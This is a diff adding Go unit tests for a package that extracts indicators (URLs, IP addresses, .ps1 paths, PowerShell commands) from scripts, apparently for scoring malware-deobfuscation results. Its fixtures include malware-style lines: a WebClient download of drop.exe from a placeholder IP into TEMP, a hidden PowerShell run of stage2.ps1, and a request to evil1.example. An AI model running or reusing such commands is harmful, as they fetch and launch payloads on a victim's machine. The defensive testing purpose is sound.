@@ -1,0 +1,77 @@
+package keyinfo
+
+import "testing"
+
+func TestExtract(t *testing.T) {
+	src := `$u = 'https://evil1.example/path/x.php?id=1'
+(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/drop.exe', "$env:TEMP\drop.exe")
+powershell -nop -w hidden -File C:\Users\Public\stage2.ps1
+Invoke-WebRequest -Uri $u
+ping 203.0.113.9`
+	info := Extract(src)
+	if len(info.URLs) != 2 {
+		t.Errorf("URLs = %v", info.URLs)
+	}
+	if len(info.IPs) != 2 {
+		t.Errorf("IPs = %v", info.IPs)
+	}
+	if len(info.Ps1) != 1 || baseName(info.Ps1[0]) != "stage2.ps1" {
+		t.Errorf("Ps1 = %v", info.Ps1)
+	}
+	if len(info.PowerShell) != 1 {
+		t.Errorf("PowerShell = %v", info.PowerShell)
+	}
+	if info.Count() != 6 {
+		t.Errorf("Count = %d", info.Count())
+	}
+}
+
+func TestExtractDeduplicates(t *testing.T) {
+	src := "'http://a.test/x' ; 'HTTP://A.TEST/x' ; 'http://a.test/x'"
+	info := Extract(src)
+	if len(info.URLs) != 1 {
+		t.Errorf("URLs = %v", info.URLs)
+	}
+}
+
+func TestExtractTrimsPunctuation(t *testing.T) {
+	info := Extract(`write-host 'visit http://site.test/a).'`)
+	if len(info.URLs) != 1 || info.URLs[0] != "http://site.test/a" {
+		t.Errorf("URLs = %v", info.URLs)
+	}
+}
+
+func TestMatchesEnvExpansion(t *testing.T) {
+	truth := Extract(`powershell -w hidden -File $env:APPDATA\report1.ps1`)
+	got := Extract(`powershell -w hidden -File C:\Users\user\AppData\Roaming\report1.ps1`)
+	m := Matches(got, truth)
+	if m[KindPs1] != 1 {
+		t.Errorf("ps1 match = %d (truth %v, got %v)", m[KindPs1], truth.Ps1, got.Ps1)
+	}
+	if m[KindPowerShell] != 1 {
+		t.Errorf("powershell match = %d", m[KindPowerShell])
+	}
+}
+
+func TestMatchesVariableRenaming(t *testing.T) {
+	truth := Extract("powershell -nop -Command $code")
+	got := Extract("powershell -nop -Command $var1")
+	if m := Matches(got, truth); m[KindPowerShell] != 1 {
+		t.Errorf("renamed-variable command did not match: %d", m[KindPowerShell])
+	}
+}
+
+func TestMatchesPartialRecovery(t *testing.T) {
+	truth := Extract("'http://one.test/a' ; 'http://two.test/b'")
+	got := Extract("'http://one.test/a'")
+	if m := Matches(got, truth); m[KindURL] != 1 {
+		t.Errorf("URL matches = %d, want 1", m[KindURL])
+	}
+}
+
+func TestIPFiltering(t *testing.T) {
+	info := Extract("$v = '1.2.3.4'; $bad = '999.1.1.1'")
+	if len(info.IPs) != 1 || info.IPs[0] != "1.2.3.4" {
+		t.Errorf("IPs = %v", info.IPs)
+	}
+}
